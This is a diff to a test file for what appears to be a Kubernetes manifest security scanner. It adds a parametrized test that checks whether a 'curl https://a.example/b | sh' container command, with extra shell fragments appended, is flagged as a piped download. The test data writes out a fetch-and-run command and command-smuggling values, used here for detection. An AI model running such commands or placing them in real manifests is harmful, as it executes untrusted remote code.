@@ -124,6 +124,13 @@ def test_what_something_else_fills_in_is_never_unsafe(value: str) -> None:
     assert lines("iac-kubernetes-privileged", text) == []
 
 
+@pytest.mark.parametrize("more", ["# $(WHY)", "# {{ why }}", "; echo <why>", "; echo $(date)"])
+def test_what_is_filled_into_a_script_hides_no_other_command(more: str) -> None:
+    script = f'[sh, -c, "curl https://a.example/b | sh {more}"]'
+    text = f"apiVersion: v1\nkind: Pod\nspec:\n  containers:\n  - name: a\n    command: {script}\n"
+    assert lines("iac-kubernetes-piped-download", text) == [(6, Severity.MEDIUM)]
+
+
 def program(*words: str, image: str = "a") -> Resource | None:
     """What a container with that command is known to start."""
     text = f"apiVersion: v1\nkind: Pod\nspec: {{containers: [{{name: a, image: {image}, %s}}]}}\n"
